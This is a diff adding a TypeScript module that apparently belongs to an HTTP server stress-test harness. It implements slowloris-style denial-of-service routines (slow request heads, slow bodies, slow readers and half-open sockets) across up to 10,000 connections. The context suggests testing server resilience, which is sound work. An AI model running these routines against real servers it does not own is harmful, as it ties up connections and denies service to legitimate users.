@@ -1,0 +1,93 @@
+// Clients at one byte a second, and clients that fall silent: many connections, hardly any bytes.
+import type { Crowd, Member } from "../crowd.js";
+import { crowdOf, HOST, onceASecond, type Attack, type AttackContext } from "./attack.js";
+
+const MANY = 10_000;
+
+/** Sends `start`, then a byte a second of `rest`, over and over. */
+async function trickle(context: AttackContext, start: string, rest: string): Promise<void> {
+  const bytes = [...rest].map((character) => Buffer.from(character, "latin1"));
+  const crowd: Crowd = crowdOf(context, {
+    reading: "all",
+    begin: (member) => void crowd.write(member, start),
+  });
+  const next = (member: Member): void => {
+    const byte = bytes[member.step++ % bytes.length];
+    if (byte !== undefined) crowd.write(member, byte);
+  };
+  await crowd.run(onceASecond(() => crowd, next));
+}
+
+export const slowHeads: Attack = {
+  name: "slow-heads",
+  what: "send a request head at 1 byte/s",
+  connections: MANY,
+  holds: true,
+  run: (context) =>
+    trickle(context, `GET ${context.paths.native} HTTP/1.1\r\n${HOST}`, "X-Slow: slower\r\n"),
+};
+
+export const slowBodies: Attack = {
+  name: "slow-bodies",
+  what: "send a request body at 1 byte/s",
+  connections: MANY,
+  holds: true,
+  run: (context) =>
+    trickle(
+      context,
+      `POST ${context.paths.body} HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`,
+      "x",
+    ),
+};
+
+export const slowReaders: Attack = {
+  name: "slow-readers",
+  what: "ask for 4 MiB, or 64 times for a small answer, and read 1 byte/s",
+  connections: MANY,
+  holds: true,
+  async run(context) {
+    const { native, large } = context.paths;
+    const small = `GET ${native} HTTP/1.1\r\n${HOST}\r\n`.repeat(64);
+    const crowd: Crowd = crowdOf(context, {
+      reading: "byte",
+      begin: (member) =>
+        void crowd.write(
+          member,
+          member.index % 2 === 0 ? `GET ${large} HTTP/1.1\r\n${HOST}\r\n` : small,
+        ),
+    });
+    await crowd.run(
+      onceASecond(
+        () => crowd,
+        (member) => void member.socket.resume(),
+      ),
+    );
+  },
+};
+
+export const halfOpen: Attack = {
+  name: "half-open",
+  what: "close their sending side in the midst of a head, of a body, or after a request, or fall silent; never read",
+  connections: 5000,
+  holds: true,
+  async run(context) {
+    const { native, body, large } = context.paths;
+    const starts = [
+      `GET ${native} HTTP/1.1\r\nHos`,
+      `POST ${body} HTTP/1.1\r\n${HOST}Content-Length: 1000\r\n\r\nhalf`,
+      `GET ${native} HTTP/1.1\r\n${HOST}\r\n`,
+    ];
+    const largest = `GET ${large} HTTP/1.1\r\n${HOST}\r\n`;
+    const crowd: Crowd = crowdOf(context, {
+      reading: "never",
+      allowHalfOpen: true,
+      begin(member) {
+        const start = member.index % 50 === 0 ? largest : starts[member.index % 4];
+        if (start === undefined) return; // not one byte
+        crowd.write(member, start);
+        if (context.random() < 0.5) member.socket.end();
+      },
+    });
+    await crowd.run();
+  },
+};
